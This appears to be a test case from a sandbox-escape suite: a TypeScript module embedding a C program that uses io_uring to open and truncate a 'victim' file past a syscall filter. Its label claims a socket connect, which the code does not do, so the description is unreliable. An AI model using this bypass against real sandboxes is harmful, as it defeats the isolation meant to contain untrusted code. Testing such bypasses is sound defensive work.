import { type Attack, c, changed } from '../attack.js'

export const attack: Attack = {
  id: 'sockets/ring-of-requests',
  tries: 'to connect by a ring of requests, past the filter of calls',
  source: 'io_uring(7): IORING_OP_SOCKET and IORING_OP_CONNECT; peers 4.1',
  program: c`
#include <linux/io_uring.h>
int main(void) {
  struct io_uring_params parameters = {0};
  const int ring = (int)syscall(SYS_io_uring_setup, 8, &parameters);
  if (ring < 0) refused("io_uring_setup");
  const size_t size = parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned);
  char *queue = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  struct io_uring_sqe *entry = mmap(NULL, 8 * sizeof *entry, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
  if (queue == MAP_FAILED || (void *)entry == MAP_FAILED) refused("mmap");
  const int file = open(path("S", "/ring"), O_CREAT | O_RDWR, 0644);
  memset(entry, 0, sizeof *entry);
  entry->opcode = IORING_OP_OPENAT;
  entry->fd = AT_FDCWD;
  entry->addr = (uintptr_t)path("OUT", "/victim");
  entry->open_flags = O_WRONLY | O_TRUNC;
  *(unsigned *)(queue + parameters.sq_off.array) = 0;
  __atomic_store_n((unsigned *)(queue + parameters.sq_off.tail), 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) refused("io_uring_enter");
}`,
  succeeded: changed,
  control: 'plain',
  needs: 'a kernel with rings of requests, switched on',
}
